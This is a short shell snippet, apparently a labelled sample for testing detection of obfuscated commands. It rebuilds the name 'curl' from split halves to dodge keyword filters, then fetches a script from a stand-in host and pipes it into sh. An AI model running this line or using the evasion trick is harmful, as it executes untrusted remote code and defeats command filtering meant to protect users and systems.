# assembled-name: read splits a string on a custom IFS into the halves of a command name
IFS=: read -r first second <<<"cu:rl"
"$first$second" -s http://203.0.113.7/ifs | sh
